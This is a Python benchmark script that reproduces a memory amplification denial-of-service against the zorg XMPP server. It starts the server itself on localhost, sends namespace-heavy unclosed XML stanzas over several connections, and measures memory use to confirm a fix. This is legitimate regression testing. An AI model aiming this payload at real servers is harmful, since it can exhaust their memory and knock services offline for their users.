#!/usr/bin/env python3
"""The memory amplification attack of issue 13 item 7, against a `zorg serve` it starts itself.

Before STARTTLS, N plain TCP connections to the client port each send a stream header and one
opening element with a long `xmlns` followed by many empty children (never closed). Each child
used to copy the namespace: 4 connections × 32,000-byte xmlns × 50,000 children (about 230 KB
each, under the 256 KiB stanza limit) took the server from 16 MB to 6.3 GB.

The script makes a throwaway directory (self-signed certificate by `openssl`, a minimal
configuration on 127.0.0.1), starts the given binary, attacks it, samples VmRSS and VmHWM of
the server from /proc/PID/status every 50 ms, and stops the server. Everything is bounded: each
connection waits at most --seconds for the server to close it, and the server is killed at once
if its resident size passes --max-rss-mib. One JSON line on stdout; exit 0 unless the server
could not be started.

Standard library only. Example (the issue's figures):
  cargo build --release -p zorg
  python3 bench/amplification.py --zorg target/release/zorg
"""

import argparse
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

HEADER = (
    "<?xml version='1.0'?><stream:stream xmlns='jabber:client' "
    "xmlns:stream='http://etherx.jabber.org/streams' to='zorg.test' version='1.0'>"
)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def proc_status(pid):
    """VmRSS and VmHWM of pid in KiB, or None when it is gone."""
    try:
        with open(f"/proc/{pid}/status") as f:
            fields = dict(line.split(":", 1) for line in f if ":" in line)
        return int(fields["VmRSS"].split()[0]), int(fields["VmHWM"].split()[0])
    except (OSError, KeyError, ValueError):
        return None


def start_server(zorg, workdir, port, dport):
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
         "-nodes", "-days", "2", "-subj", "/CN=zorg.test", "-addext", "subjectAltName=DNS:zorg.test",
         "-keyout", os.path.join(workdir, "key.pem"), "-out", os.path.join(workdir, "cert.pem")],
        check=True, capture_output=True, timeout=60,
    )
    with open(os.path.join(workdir, "zorg.toml"), "w") as f:
        f.write(f"""data_dir = "data"

[[domain]]
name = "zorg.test"
certificate = "cert.pem"
key = "key.pem"

[c2s]
listen = ["127.0.0.1:{port}"]
direct_tls = ["127.0.0.1:{dport}"]

[log]
level = "warn"
""")
    log = open(os.path.join(workdir, "server.log"), "w")
    server = subprocess.Popen([zorg, "serve", "--config", "zorg.toml"], cwd=workdir,
                              stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if server.poll() is not None:
            raise RuntimeError(f"zorg exited with {server.returncode}; see {workdir}/server.log")
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return server
        except OSError:
            time.sleep(0.1)
    server.kill()
    raise RuntimeError("zorg did not listen within 60 s")


def attack_one(port, payload, seconds, out, i):
    """Sends the payload while reading, until the server closes or the time is up. Reading runs
    alongside: a server that closes with bytes of ours unread resets the connection, and the
    reset discards what it had sent but was not read yet."""
    got = []
    state = {"closed": False}
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=seconds)
    except OSError as e:
        out[i] = {"closed_by_server": False, "policy_violation": False, "error": repr(e)}
        return
    deadline = time.monotonic() + seconds

    def read():
        while time.monotonic() < deadline:
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                state["closed"] = True
                return
            if not chunk:
                state["closed"] = True
                return
            got.append(chunk)

    s.settimeout(0.2)
    reader = threading.Thread(target=read)
    reader.start()
    view = memoryview(payload)
    while view and time.monotonic() < deadline and not state["closed"]:
        try:
            view = view[s.send(view):]
        except socket.timeout:
            continue
        except OSError:
            break  # closed by the server before everything was sent: the point of the fix
    reader.join()
    s.close()
    answer = b"".join(got)
    out[i] = {"closed_by_server": state["closed"], "policy_violation": b"policy-violation" in answer}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--zorg", required=True, help="path of the zorg binary to start")
    ap.add_argument("--connections", type=int, default=4)
    ap.add_argument("--ns-len", type=int, default=32000, help="bytes of the xmlns value")
    ap.add_argument("--children", type=int, default=50000, help="empty children per connection")
    ap.add_argument("--seconds", type=float, default=20.0, help="how long each connection waits")
    ap.add_argument("--max-rss-mib", type=int, default=8192,
                    help="kill the server at once past this resident size")
    ap.add_argument("--keep", action="store_true", help="keep the work directory")
    args = ap.parse_args()

    payload = (HEADER + "<a xmlns='urn:" + "x" * (args.ns_len - 4) + "'>"
               + "<b/>" * args.children).encode()
    workdir = tempfile.mkdtemp(prefix="zorg-amplification-")
    port, dport = free_port(), free_port()
    try:
        server = start_server(os.path.abspath(args.zorg), workdir, port, dport)
    except (RuntimeError, subprocess.SubprocessError, OSError) as e:
        print(json.dumps({"error": str(e)}))
        return 1
    time.sleep(0.5)  # let the start settle before the baseline
    rss_before, _ = proc_status(server.pid) or (0, 0)
    results = [None] * args.connections
    threads = [threading.Thread(target=attack_one, args=(port, payload, args.seconds, results, i))
               for i in range(args.connections)]
    started = time.monotonic()
    for t in threads:
        t.start()
    peak_rss, hwm, killed = rss_before, 0, False
    while any(t.is_alive() for t in threads):
        st = proc_status(server.pid)
        if st:
            peak_rss, hwm = max(peak_rss, st[0]), max(hwm, st[1])
            if st[0] > args.max_rss_mib * 1024 and not killed:
                server.send_signal(signal.SIGKILL)
                killed = True
        time.sleep(0.05)
    for t in threads:
        t.join()
    elapsed = time.monotonic() - started
    st = proc_status(server.pid)
    if st:
        peak_rss, hwm = max(peak_rss, st[0]), max(hwm, st[1])
    rss_after = st[0] if st else 0
    if server.poll() is None:
        server.send_signal(signal.SIGTERM)
        try:
            server.wait(timeout=10)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
    if not args.keep:
        shutil.rmtree(workdir, ignore_errors=True)
    print(json.dumps({
        "connections": args.connections,
        "ns_len": args.ns_len,
        "children": args.children,
        "payload_bytes": len(payload),
        "rss_before_kib": rss_before,
        "rss_after_kib": rss_after,
        "peak_rss_sampled_kib": peak_rss,
        "vm_hwm_kib": hwm,
        "killed_at_max_rss": killed,
        "seconds": round(elapsed, 2),
        "streams_closed_by_server": sum(1 for r in results if r and r["closed_by_server"]),
        "streams_with_policy_violation": sum(1 for r in results if r and r["policy_violation"]),
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main())
